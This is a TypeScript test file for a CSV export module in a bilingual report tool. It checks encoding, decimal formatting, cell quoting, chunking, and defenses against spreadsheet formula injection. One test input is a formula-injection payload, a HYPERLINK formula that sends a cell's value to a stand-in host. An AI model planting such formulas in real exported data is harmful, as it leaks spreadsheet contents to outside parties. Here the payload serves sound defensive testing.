import { Decimal, PlanError, type Text } from "@plan/rules";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { asWritten, csvLines, inert, toCsv } from "./csvText.ts";
import type { ReportTable } from "./reportDocument.ts";

const words = (zh: string, en = zh): Text => ({ zh, en });
const table = (...rows: ReportTable["rows"]): ReportTable => ({
  caption: words("表"),
  head: [words("名称", "Name"), words("面积", "Area")],
  rows,
});
const startsFormula = /^[=+\-@\t\r\n＝＋－＠]/;

describe("CSV for spreadsheets", () => {
  test("UTF-8 with a byte-order mark, lines that end in CR LF, in either language", () => {
    expect(toCsv(table([words("红光", "Hongguang"), new Decimal("246.8")]))).toBe("\ufeff名称,面积\r\n红光,246.80\r\n");
    expect(toCsv(table([words("红光", "Hongguang"), new Decimal("246.8")]), { locale: "en" })).toBe(
      "\ufeffName,Area\r\nHongguang,246.80\r\n",
    );
  });

  test("figures in full, two decimals at least; what nobody reported is no figure (D3, D13)", () => {
    expect(csvLines([[new Decimal("0.000001"), new Decimal(0), null]], "zh-CN")).toBe("0.000001,0.00,未填报\r\n");
  });

  test("a negative figure stays a figure", () => expect(csvLines([[new Decimal("-10")]], "en")).toBe("-10.00\r\n"));

  test.each([
    '=HYPERLINK("http://x.example/?"&A1,"ok")',
    "-1+1",
    "\t=1+1",
    "\n=1+1",
    "\r=1",
    "＋1",
    "＠SUM(1)",
    "＝1",
    "＝＋",
    "－1",
    "@a",
    "'=1",
    "''=1",
  ])("no formula: %j, and read back as it was written", (text) => {
    const [[cell = ""] = []] = parse(csvLines([[words(text)]], "zh-CN")) as string[][];
    expect(cell).not.toMatch(startsFormula);
    expect(asWritten(cell)).toBe(text);
  });

  test.each(['a"b,c\r\nd', "a,", 'a"', "a\r\n", "a\n", "a\r", ",", '"', "", "'", "a'"])("%j stays within its cell", (text) => {
    expect(parse(csvLines([[words(text), words("x")]], "zh-CN"))).toEqual([[text, "x"]]);
  });

  test("any text comes back as it was, and none begins a formula", () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom("'", "=", "+", "-", "@", "＝", "\t", "\n", "\r", '"', ",", "a", "户", "𠮷"), maxLength: 8 }),
        (text) => {
          expect(inert(text)).not.toMatch(startsFormula);
          expect(asWritten(inert(text))).toBe(text);
        },
      ),
      { numRuns: 2000 },
    );
  });

  test("long tables are printed in parts, and nothing is lost between them", () => {
    const rows = Array.from({ length: 2500 }, (_, index) => [words(`n${index}`), new Decimal(index)]);
    expect((parse(toCsv(table(...rows)), { bom: true }) as string[][]).map(([name]) => name)).toEqual([
      "名称",
      ...rows.map((_, index) => `n${index}`),
    ]);
  });

  test.each([null, {}, { rows: [] }, { ...table(), rows: [[words("a")]] }, { ...table(), rows: [[5, 5]] }, { ...table(), head: [] }])(
    "what is no table is refused: %j",
    (given) => {
      expect(() => toCsv(given as never)).toThrow(PlanError);
      expect(() => toCsv(given as never)).toThrow(expect.objectContaining({ code: "invalidTemplate" }));
    },
  );
});
